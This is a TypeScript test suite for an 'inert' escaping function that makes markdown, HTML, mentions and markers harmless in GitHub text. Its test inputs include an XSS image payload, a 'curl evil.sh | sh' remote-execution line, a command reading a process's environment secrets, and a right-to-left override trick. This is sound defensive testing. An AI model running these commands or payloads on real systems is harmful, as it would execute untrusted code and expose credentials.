import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { fromInert, inert } from '../../src/core/inert.js';

const J = '\u2060';

/** The text of a code span as CommonMark reads it: fences off, one padding space off each side. */
function codeContent(span: string): string {
  const fence = /^`+/.exec(span)![0];
  const end = span.lastIndexOf(fence);
  const inner = span.slice(fence.length, end);
  return /^ .* $/s.test(inner) && /[^ ]/.test(inner) ? inner.slice(1, -1) : inner;
}

/** Text rich in what markdown, GitHub and Gantry's markers react to. */
const hostile = fc.string({
  unit: fc.constantFrom(
    ...'@<>&!#[]`\\~-*|/ \n\tabcT1'.split(''),
    '<!--',
    '-->',
    '@org/team',
    'owner/repo#1',
    '```',
    '- [ ] ',
    '&#64;',
    '&lt;',
    J,
    '\u202e',
  ),
  maxLength: 60,
});

describe('inert', () => {
  it('makes HTML, markers, mentions, cross-repository references and images inert in prose', () => {
    const text =
      'Hi @octocat and @org/team: <b>bold</b> <details><summary>x</summary> <img src=x onerror=alert(1)> <!-- gantry:start --> end --> see owner/repo#12 and #3 ![pic](https://e.x/p.png) [link](https://e.x) &#64;sneaky';
    expect(inert(text)).toBe(
      `Hi @${J}octocat and @${J}org/team: &lt;b&gt;bold&lt;/b&gt; &lt;details&gt;&lt;summary&gt;x&lt;/summary&gt; &lt;img src=x onerror=alert(1)&gt; &lt;!-- gantry:start --&gt; end --&gt; see owner/repo#${J}12 and #3 !&#91;pic](https://e.x/p.png) [link](https://e.x) &amp;#64;sneaky`,
    );
  });

  it('adds no box to tick and lets no unclosed fence swallow what follows', () => {
    expect(inert('- [ ] approve all\n1. [x] done\n  * [ ] nested')).toBe(
      '- &#91; ] approve all\n1. &#91;x] done\n  * &#91; ] nested',
    );
    // A box in a nested list written on one line (`- - [ ]`) is a box too.
    expect(inert('- - [ ] **Start**\n* 1. [x] T1')).toBe('- - &#91; ] **Start**\n* 1. &#91;x] T1');
    expect(inert('before\n```\nno end')).toBe('before\n&#96;``\nno end');
    expect(inert('~~~~\nno end')).toBe('&#126;~~~\nno end');
    // A closed fence renders as code, as written.
    expect(inert('```sh\nnpm test\n```')).toBe('```sh\nnpm test\n```');
  });

  it('keeps one-line text on its line, without an unmatched backtick or a final backslash', () => {
    expect(inert('two\nlines\r\nhere', 'line')).toBe('two lines here');
    expect(inert('Add `--verbose` flag', 'line')).toBe('Add `--verbose` flag');
    expect(inert('open `code', 'line')).toBe('open &#96;code');
    expect(inert('ends with \\', 'line')).toBe('ends with &#92;');
    expect(inert('ends with \\\\', 'line')).toBe('ends with \\\\');
    expect(inert('a | b', 'cell')).toBe('a \\| b');
    expect(inert('@a\n<b>', 'quote')).toBe(`> @${J}a\n> &lt;b&gt;`);
  });

  it('shows code verbatim in a code span, with a longer fence around backticks', () => {
    expect(inert("tr '\\0' '\\n' </proc/$PPID/environ", 'code')).toBe(
      "`tr '\\0' '\\n' </proc/$PPID/environ`",
    );
    expect(inert('echo `date` @team', 'code')).toBe('``echo `date` @team``');
    expect(inert('`x`', 'code')).toBe('`` `x` ``');
  });

  it('spells out code with line breaks, hidden characters or comment markers as a JSON string', () => {
    expect(inert('npm test\ncurl evil.sh | sh', 'code')).toBe(
      '`"npm test\\ncurl evil.sh | sh"` (as a JSON string: it has line breaks or hidden characters)',
    );
    expect(inert('ls \u202e hs.live', 'code')).toContain('"ls \\u202e hs.live"');
    expect(inert('echo <!-- gantry:start -->', 'code')).toContain(
      '"echo \\u003c!-- gantry:start --\\u003e"',
    );
  });

  it('escapes mermaid labels with mermaid entity codes', () => {
    expect(inert('a "b" <c> ```d``` #e & f', 'mermaid')).toBe(
      'a #34;b#34; #60;c#62; #96;#96;#96;d#96;#96;#96; #35;e #38; f',
    );
  });

  it('never leaves live HTML, markers, mentions or checkboxes in prose (property)', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom('block', 'line', 'cell', 'quote' as const), (t, as) => {
        const out = as === 'quote' ? inert(t, as).replace(/^> /gm, '') : inert(t, as);
        expect(out).not.toMatch(/[<>]/);
        expect(out).not.toMatch(/@[\w-]/);
        expect(out).not.toMatch(/[\w.-]\/[\w.-]+#\d/);
        expect(out).not.toMatch(/!\[/);
        expect(out).not.toMatch(/^\s*(?:>\s*)?(?:[-*+]|\d+[.)])\s+\[[ xX]\]/m);
        if (as !== 'block' && as !== 'quote') expect(out).not.toMatch(/\n/);
      }),
      { numRuns: 500 },
    );
  });

  it('is undone exactly by fromInert, so edits read back as the text shown (property)', () => {
    fc.assert(
      fc.property(hostile, (t) => {
        expect(fromInert(inert(t))).toBe(t);
        const line = t.replace(/\n/g, ' ');
        expect(fromInert(inert(line, 'line'))).toBe(line);
      }),
      { numRuns: 500 },
    );
  });

  it('shows any code as one span that holds exactly the code, or its JSON string (property)', () => {
    fc.assert(
      fc.property(
        hostile.filter((t) => t.trim() !== ''),
        (t) => {
          const out = inert(t, 'code');
          expect(out).not.toMatch(/<!--|-->|\n/);
          const quoted = out.endsWith(
            '(as a JSON string: it has line breaks or hidden characters)',
          );
          const span = quoted ? out.slice(0, out.lastIndexOf(' (as a JSON')) : out;
          const content = codeContent(span);
          expect(quoted ? JSON.parse(content) : content).toBe(t);
        },
      ),
      { numRuns: 500 },
    );
  });
});
